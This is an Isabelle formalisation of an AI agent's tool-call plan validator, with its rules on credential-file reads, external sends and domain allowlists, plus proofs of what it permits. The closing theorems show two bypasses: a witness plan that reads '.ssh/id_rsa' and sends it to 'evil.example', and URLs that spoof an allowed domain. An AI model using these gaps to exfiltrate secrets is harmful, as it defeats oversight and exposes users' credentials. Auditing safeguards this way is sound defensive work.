(* ===== verification/Plan_Validator.thy ===== *)
theory Plan_Validator
  imports Json_Canonical
begin

section \<open>Validation of tool call plans\<close>

text \<open>
  \<^verbatim>\<open>ghost-agent-loop/src/tools/plan_validator.rs\<close>: the rules on the sequence of tool calls of one
  response. Arguments are JSON values. The names in the text of an escalation denial, which
  depend on the iteration order of a hash set, are left out.
\<close>

record 'n llm_tool_call =
  tc_id :: string
  tc_name :: string
  tc_arguments :: "'n json"

record plan_validator_config =
  pv_enabled :: bool
  pv_max_plan_size :: nat
  pv_allowed_domains :: "string list"
  pv_sensitive_read_tools :: "string list"
  pv_external_send_tools :: "string list"
  pv_escalation_denial_threshold :: nat

definition plan_validator_config_default :: plan_validator_config where
  "plan_validator_config_default =
     \<lparr>pv_enabled = True, pv_max_plan_size = 10,
      pv_allowed_domains =
        [''api.anthropic.com'', ''api.openai.com'', ''generativelanguage.googleapis.com'',
         ''api.mistral.ai'', ''api.groq.com''],
      pv_sensitive_read_tools = [''file_read'', ''shell_exec'', ''memory_read''],
      pv_external_send_tools = [''api_call'', ''web_request'', ''http_request'', ''web_fetch''],
      pv_escalation_denial_threshold = 3\<rparr>"

datatype plan_validation_result = PlanPermit | PlanDeny string | RequireApproval string

record plan_validator =
  pv_config :: plan_validator_config
  pv_recent_denials :: "string list"

definition plan_validator_new :: "plan_validator_config \<Rightarrow> plan_validator" where
  "plan_validator_new c = \<lparr>pv_config = c, pv_recent_denials = []\<rparr>"

definition pv_record_denial :: "string \<Rightarrow> plan_validator \<Rightarrow> plan_validator" where
  "pv_record_denial tool v =
     (let ds = pv_recent_denials v @ [tool]
      in v\<lparr>pv_recent_denials := (if 20 < length ds then tl ds else ds)\<rparr>)"

definition strip_protocol :: "string \<Rightarrow> string" where
  "strip_protocol url =
     (case strip_prefix ''https://'' url of
        Some r \<Rightarrow> r
      | None \<Rightarrow> (case strip_prefix ''http://'' url of Some r \<Rightarrow> r | None \<Rightarrow> url))"

definition extract_domain_from_url :: "string \<Rightarrow> string option" where
  "extract_domain_from_url url =
     (let domain = hd (split_on (CHR '':'') (hd (split_on (CHR ''/'') (strip_protocol url))))
      in if domain = [] then None else Some (map to_ascii_lowercase domain))"

definition tools_are_similar :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "tools_are_similar a b =
     (if a = b then True
      else if min (length a) (length b) < 4 then False
      else if 4 \<le> length (takeWhile (\<lambda>(x, y). x = y) (zip a b)) then True
      else 4 \<le> length (takeWhile (\<lambda>(x, y). x = y) (zip (rev a) (rev b))))"

definition is_sensitive_read :: "plan_validator \<Rightarrow> string \<Rightarrow> bool" where
  "is_sensitive_read v name = list_ex (\<lambda>t. t = name) (pv_sensitive_read_tools (pv_config v))"

definition is_external_send :: "plan_validator \<Rightarrow> string \<Rightarrow> bool" where
  "is_external_send v name = list_ex (\<lambda>t. t = name) (pv_external_send_tools (pv_config v))"

fun extract_domain_keys :: "string list \<Rightarrow> 'n json \<Rightarrow> string option" where
  "extract_domain_keys [] args = None"
| "extract_domain_keys (k # ks) args =
     (case str_arg k args of Some val \<Rightarrow> extract_domain_from_url val | None \<Rightarrow> extract_domain_keys ks args)"

definition extract_domain :: "'n json \<Rightarrow> string option" where
  "extract_domain args = extract_domain_keys [''url'', ''endpoint'', ''domain'', ''host'', ''target''] args"

definition ends_with :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "ends_with t s \<longleftrightarrow> starts_with (rev t) (rev s)"

definition is_domain_allowed :: "plan_validator \<Rightarrow> string \<Rightarrow> bool" where
  "is_domain_allowed v domain =
     (let lower = map to_ascii_lowercase domain
      in list_ex (\<lambda>d. lower = map to_ascii_lowercase d \<or> ends_with (''.'' @ map to_ascii_lowercase d) lower)
           (pv_allowed_domains (pv_config v)))"

definition check_volume :: "plan_validator \<Rightarrow> 'n llm_tool_call list \<Rightarrow> plan_validation_result" where
  "check_volume v calls =
     (if pv_max_plan_size (pv_config v) < length calls
      then PlanDeny (''Plan contains '' @ show_nat (length calls) @ '' tool calls, exceeding maximum of '' @
             show_nat (pv_max_plan_size (pv_config v)))
      else PlanPermit)"

fun dangerous_loop :: "plan_validator \<Rightarrow> bool \<Rightarrow> 'n llm_tool_call list \<Rightarrow> plan_validation_result" where
  "dangerous_loop v has_read [] = PlanPermit"
| "dangerous_loop v has_read (c # cs) =
     (let has_read = (has_read \<or> is_sensitive_read v (tc_name c))
      in if has_read \<and> is_external_send v (tc_name c) then
           (case extract_domain (tc_arguments c) of
              Some domain \<Rightarrow>
                if \<not> is_domain_allowed v domain then
                  PlanDeny (''Dangerous sequence detected: sensitive data read followed by external send to non-allowed domain '' @ domain)
                else dangerous_loop v has_read cs
            | None \<Rightarrow> PlanDeny ''Dangerous sequence detected: sensitive data read followed by external send with unresolvable target'')
         else dangerous_loop v has_read cs)"

definition check_dangerous_sequence :: "plan_validator \<Rightarrow> 'n llm_tool_call list \<Rightarrow> plan_validation_result" where
  "check_dangerous_sequence v calls = dangerous_loop v False calls"

definition sensitive_paths :: "string list" where
  "sensitive_paths =
     [''.ssh/'', ''.gnupg/'', ''.aws/'', ''.env'', ''id_rsa'', ''id_ed25519'', ''credentials'', ''secrets'',
      ''private_key'', ''token'']"

definition names_sensitive_path :: "'n llm_tool_call \<Rightarrow> bool" where
  "names_sensitive_path c =
     list_ex (\<lambda>k. case str_arg k (tc_arguments c) of
         Some path \<Rightarrow> list_ex (\<lambda>p. contains path p) sensitive_paths | None \<Rightarrow> False) [''path'', ''file'']"

fun flow_loop :: "plan_validator \<Rightarrow> bool \<Rightarrow> 'n llm_tool_call list \<Rightarrow> plan_validation_result" where
  "flow_loop v reads [] = PlanPermit"
| "flow_loop v reads (c # cs) =
     (let reads = (reads \<or> (is_sensitive_read v (tc_name c) \<and> names_sensitive_path c))
      in if reads \<and> is_external_send v (tc_name c) then
           PlanDeny ''Sensitive data flow violation: file containing credentials or keys would flow to external-facing tool''
         else flow_loop v reads cs)"

definition check_sensitive_data_flow :: "plan_validator \<Rightarrow> 'n llm_tool_call list \<Rightarrow> plan_validation_result" where
  "check_sensitive_data_flow v calls = flow_loop v False calls"

definition check_escalation :: "plan_validator \<Rightarrow> 'n llm_tool_call list \<Rightarrow> plan_validation_result" where
  "check_escalation v calls =
     (let denied = pv_recent_denials v
      in if length denied < pv_escalation_denial_threshold (pv_config v) then PlanPermit
         else if list_ex (\<lambda>c. tc_name c \<notin> set denied \<and> list_ex (\<lambda>d. tools_are_similar (tc_name c) d) denied) calls
         then PlanDeny ''Escalation detected''
         else PlanPermit)"

definition plan_validate :: "plan_validator \<Rightarrow> 'n llm_tool_call list \<Rightarrow> plan_validation_result" where
  "plan_validate v calls =
     (if \<not> pv_enabled (pv_config v) then PlanPermit
      else if length calls \<le> 1 then PlanPermit
      else (case check_volume v calls of PlanDeny r \<Rightarrow> PlanDeny r
        | _ \<Rightarrow> (case check_dangerous_sequence v calls of PlanDeny r \<Rightarrow> PlanDeny r
        | _ \<Rightarrow> (case check_sensitive_data_flow v calls of PlanDeny r \<Rightarrow> PlanDeny r
        | _ \<Rightarrow> (case check_escalation v calls of PlanDeny r \<Rightarrow> PlanDeny r
        | _ \<Rightarrow> PlanPermit)))))"

subsection \<open>What the rules admit\<close>

lemma ex_le_Suc_Cons: "(\<exists>i \<le> Suc j. P ((c # cs) ! i)) \<longleftrightarrow> P c \<or> (\<exists>i \<le> j. P (cs ! i))"
  by (metis (no_types) Suc_le_mono less_eq_nat.simps(1) not0_implies_Suc nth_Cons_0 nth_Cons_Suc)

lemma dangerous_loop_permits:
  "dangerous_loop v b calls = PlanPermit \<longleftrightarrow>
     (\<forall>j < length calls. (b \<or> (\<exists>i \<le> j. is_sensitive_read v (tc_name (calls ! i)))) \<longrightarrow>
        is_external_send v (tc_name (calls ! j)) \<longrightarrow>
        (\<exists>d. extract_domain (tc_arguments (calls ! j)) = Some d \<and> is_domain_allowed v d))"
proof (induction v b calls rule: dangerous_loop.induct)
  case (2 v b c cs)
  show ?case
    using 2 ex_le_Suc_Cons[where P = "\<lambda>x. is_sensitive_read v (tc_name x)" and c = c and cs = cs]
    by (auto simp: Let_def All_less_Suc2 split: option.splits)
qed simp

lemma flow_loop_permits:
  "flow_loop v b calls = PlanPermit \<longleftrightarrow>
     (\<forall>j < length calls. (b \<or> (\<exists>i \<le> j. is_sensitive_read v (tc_name (calls ! i)) \<and> names_sensitive_path (calls ! i))) \<longrightarrow>
        \<not> is_external_send v (tc_name (calls ! j)))"
proof (induction v b calls rule: flow_loop.induct)
  case (2 v b c cs)
  show ?case
    using 2 ex_le_Suc_Cons[where P = "\<lambda>x. is_sensitive_read v (tc_name x) \<and> names_sensitive_path x" and c = c and cs = cs]
    by (auto simp: Let_def All_less_Suc2)
qed simp

lemma dangerous_never_asks: "dangerous_loop v b calls \<noteq> RequireApproval r"
  by (induction v b calls rule: dangerous_loop.induct) (auto simp: Let_def split: option.splits)

lemma flow_never_asks: "flow_loop v b calls \<noteq> RequireApproval r"
  by (induction v b calls rule: flow_loop.induct) (auto simp: Let_def)

lemma loops_permit:
  fixes calls :: "'n llm_tool_call list"
  shows "dangerous_loop v False calls = PlanPermit \<and> flow_loop v False calls = PlanPermit \<longleftrightarrow>
     \<not> (\<exists>i j. i \<le> j \<and> j < length calls \<and> is_sensitive_read v (tc_name (calls ! i)) \<and>
          is_external_send v (tc_name (calls ! j)) \<and>
          (names_sensitive_path (calls ! i) \<or>
           (case extract_domain (tc_arguments (calls ! j)) of None \<Rightarrow> True | Some d \<Rightarrow> \<not> is_domain_allowed v d)))"
proof -
  have bad: "(case extract_domain a of None \<Rightarrow> True | Some d \<Rightarrow> \<not> is_domain_allowed v d) \<longleftrightarrow>
      \<not> (\<exists>d. extract_domain a = Some d \<and> is_domain_allowed v d)" for a :: "'n json"
    by (cases "extract_domain a") auto
  show ?thesis unfolding dangerous_loop_permits flow_loop_permits bad by auto
qed

text \<open>
  A plan is permitted exactly when the validator is off, or the plan has at most one call, or it
  has at most the allowed number of calls, every external send at or after a sensitive read goes
  to a recognised allowed domain, no external send comes at or after a sensitive read that names a
  sensitive path, and, after enough denials, no call's tool is similar to but different from every
  denied one.
\<close>

theorem plan_permitted_exactly:
  "plan_validate v calls = PlanPermit \<longleftrightarrow>
     (if pv_enabled (pv_config v) \<and> 1 < length calls then
        length calls \<le> pv_max_plan_size (pv_config v)
        \<and> \<not> (\<exists>i j. i \<le> j \<and> j < length calls \<and> is_sensitive_read v (tc_name (calls ! i)) \<and>
               is_external_send v (tc_name (calls ! j)) \<and>
               (names_sensitive_path (calls ! i) \<or>
                (case extract_domain (tc_arguments (calls ! j)) of None \<Rightarrow> True | Some d \<Rightarrow> \<not> is_domain_allowed v d)))
        \<and> \<not> (pv_escalation_denial_threshold (pv_config v) \<le> length (pv_recent_denials v) \<and>
             (\<exists>c \<in> set calls. tc_name c \<notin> set (pv_recent_denials v) \<and>
                (\<exists>d \<in> set (pv_recent_denials v). tools_are_similar (tc_name c) d)))
      else True)"
proof -
  have esc: "check_escalation v calls = PlanPermit \<longleftrightarrow>
      \<not> (pv_escalation_denial_threshold (pv_config v) \<le> length (pv_recent_denials v) \<and>
      (\<exists>c \<in> set calls. tc_name c \<notin> set (pv_recent_denials v) \<and>
           (\<exists>d \<in> set (pv_recent_denials v). tools_are_similar (tc_name c) d)))"
    by (auto simp: check_escalation_def Let_def list_ex_iff)
  have "plan_validate v calls = PlanPermit \<longleftrightarrow>
      (if pv_enabled (pv_config v) \<and> 1 < length calls then
        length calls \<le> pv_max_plan_size (pv_config v) \<and> dangerous_loop v False calls = PlanPermit \<and>
        flow_loop v False calls = PlanPermit \<and> check_escalation v calls = PlanPermit
       else True)"
    using dangerous_never_asks[of v False calls] flow_never_asks[of v False calls]
    by (auto simp: plan_validate_def check_volume_def check_dangerous_sequence_def check_sensitive_data_flow_def
        check_escalation_def Let_def split: plan_validation_result.splits if_splits)
  then show ?thesis unfolding loops_permit[symmetric] esc[symmetric] by (simp only: conj_assoc)
qed

lemma no_read_no_flow:
  assumes "\<forall>c \<in> set calls. \<not> is_sensitive_read v (tc_name c)"
  shows "dangerous_loop v False calls = PlanPermit" "flow_loop v False calls = PlanPermit"
  using assms by (induction calls) auto

text \<open>
  With the default configuration, a plan made of the built-in tools other than \<^verbatim>\<open>memory_read\<close> is
  permitted whatever its arguments, up to ten calls and while fewer than three denials are on
  record: the rules name \<^verbatim>\<open>file_read\<close> and \<^verbatim>\<open>shell_exec\<close>, which are not the names of the registered tools
  \<^verbatim>\<open>read_file\<close> and \<^verbatim>\<open>shell\<close>. A private key read with \<^verbatim>\<open>read_file\<close> may be sent anywhere.
\<close>

theorem builtin_reads_not_seen:
  assumes "pv_config v = plan_validator_config_default" "length (pv_recent_denials v) < 3" "length calls \<le> 10"
    and "\<forall>c \<in> set calls. tc_name c \<in>
      {''read_file'', ''write_file'', ''list_dir'', ''shell'', ''web_search'', ''web_fetch'', ''http_request''}"
  shows "plan_validate v calls = PlanPermit"
proof -
  have "\<forall>c \<in> set calls. \<not> is_sensitive_read v (tc_name c)"
    using assms(1,4) by (fastforce simp: is_sensitive_read_def plan_validator_config_default_def)
  from no_read_no_flow [OF this] show ?thesis
    using assms(1-3) by (simp add: plan_validate_def check_volume_def check_dangerous_sequence_def
        check_sensitive_data_flow_def check_escalation_def plan_validator_config_default_def)
qed

theorem builtin_reads_not_seen_witness:
  "plan_validate (plan_validator_new plan_validator_config_default)
     [\<lparr>tc_id = ''1'', tc_name = ''read_file'', tc_arguments = JObject [(''path'', JString ''.ssh/id_rsa'')]\<rparr>,
      \<lparr>tc_id = ''2'', tc_name = ''http_request'', tc_arguments = JObject [(''url'', JString ''https://evil.example/'')]\<rparr> :: int llm_tool_call]
   = PlanPermit"
  by (rule builtin_reads_not_seen) (simp_all add: plan_validator_new_def)

text \<open>
  The host compared with the allowed domains is cut at the first slash and colon only. A URL with
  user information, or with a query right after the host, is taken for an allowed domain while the
  request goes to another host.
\<close>

theorem allowed_domain_spoofed:
  "list_all (\<lambda>url. case extract_domain (JObject [(''url'', JString url)] :: int json) of
        None \<Rightarrow> False
      | Some d \<Rightarrow> is_domain_allowed (plan_validator_new plan_validator_config_default) d)
     [''https://api.openai.com:x@evil.example/'', ''https://evil.example?.api.openai.com'']"
  by code_simp

end
